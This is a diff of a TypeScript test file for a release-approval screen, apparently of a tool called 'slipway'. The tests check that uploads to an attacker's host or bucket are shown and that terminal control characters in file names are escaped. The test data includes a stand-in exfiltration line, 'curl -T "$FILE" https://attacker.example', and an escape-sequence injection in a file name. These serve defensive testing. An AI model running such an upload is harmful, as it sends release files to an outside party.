@@ -39,7 +39,7 @@ function screen(steps: Plan['steps'], artifacts: readonly SealedArtifact[], all:
 const index = aTarget({ name: 'index', address: 'service:index' });
 const numbers = (count: number): readonly number[] => Array.from({ length: count }, (_, at) => at + 1);
 
-test('[M4] the file that goes to an address of the attacker is shown there, with digest and size', () => {
+test("[M4] given a file for an attacker's address, then it is shown there, with digest and size", () => {
   const theirs = aTarget({ name: 'mirror', address: 'https://attacker.example/' });
   const shown = screen([...publish(index, 1), ...publish(theirs, 2)], [wheel(1), wheel(2)], true);
   expect(shown).toContain(
@@ -53,20 +53,20 @@ test('[M4] the file that goes to an address of the attacker is shown there, with
   expect(shown).toContain(`manifest ${SEALED}`);
 });
 
-test('[M4] the hundredth file of a target is shown too; without --show the screen says how many it cut', () => {
+test('[M4] given a hundred files, then --show lists all; without it the screen counts the rest', () => {
   const all = numbers(100);
   const [steps, artifacts] = [publish(index, ...all), all.map((no) => wheel(no))];
   expect(screen(steps, artifacts, true)).toContain(`skiff_100-1.2.3.whl  ${digest(100)}`);
   expect(screen(steps, artifacts, false)).toContain('and 60 more: `slipway approve GATE --show` lists them');
 });
 
-test('[M4] a name with control characters moves no cursor, and what no target gets is told', () => {
+test('[M4] given control characters in a name, then they are escaped; unpublished files are listed too', () => {
   const shown = screen(publish(index, 1), [wheel(1, 'skiff\u001b[2K\u001b[1A-1.2.3.whl'), wheel(2)], true);
   expect(shown).not.toContain('\u001b');
   expect(shown).toContain(`Sealed, and published nowhere:\n  skiff_2-1.2.3.whl  ${digest(2)}  (wheels/w2)`);
 });
 
-test('[M4] a bucket on the server of the attacker is shown, and signed, with that server', () => {
+test("[M4] given a bucket on an attacker's server, then that server is shown and signed", () => {
   const extra = { kind: 's3' as const, path: '{file}', endpoint: 'https://attacker.example' };
   const files = aTarget({ name: 'files', kind: 's3', address: 's3://releases/skiff', extra });
   const plan = aPlan({ steps: publish(files, 1) });
@@ -78,7 +78,7 @@ test('[M4] a bucket on the server of the attacker is shown, and signed, with tha
   );
 });
 
-test('[M4] a line that sends the bytes, a tag of git and a name that moves are shown', () => {
+test('[M4] given an upload line, a git tag and a moving name, then each is shown', () => {
   const upload = 'curl -T "$FILE" https://attacker.example';
   const lines = { kind: 'command' as const, observe: 'true', upload, undo: null, secrets: [] };
   const conda = aTarget({ name: 'conda', kind: 'command', address: 'https://conda.example/', extra: lines });
